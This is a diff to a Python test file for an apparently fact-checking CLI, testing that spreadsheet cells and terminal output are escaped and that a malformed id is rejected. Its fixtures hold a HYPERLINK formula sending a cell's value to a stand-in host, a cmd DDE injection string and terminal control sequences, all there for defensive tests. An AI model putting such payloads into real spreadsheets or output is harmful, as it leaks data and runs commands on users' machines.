@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 from robust_helpers import Run
 
-from factcheck.writers.safe_text import spreadsheet_cell, visible
+from factcheck.safe_text import spreadsheet_cell, visible
 
 FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
 CONTROLS = "red \x1b[31mALERT\x1b[0m bell\x07 nul\x00 rlo\u202eevil\u202c end"
@@ -103,3 +103,16 @@ def test_rich_markup_in_a_quote_is_shown_as_written(
     monkeypatch.setenv("COLUMNS", "400")  # wide enough that no cell wraps
     run = cli("compare", example_copy)
     assert markup in run.out
+
+
+def test_a_problem_quoting_a_line_break_stays_one_line(
+    cli: Callable[..., Run], example_copy: Path
+) -> None:
+    path = example_copy / "sources" / "sadanews.yaml"
+    text = path.read_text(encoding="utf-8").replace("id: sadanews", 'id: "bad\\nid\\u001b[2J"', 1)
+    path.write_text(text, encoding="utf-8")
+    run = cli("compare", example_copy)
+    assert run.code == 2
+    assert run.lines == [
+        f"error: {path}:1: id: 'bad\\nid␛[2J' is not a valid id (lowercase letters, digits, . _ -)"
+    ]
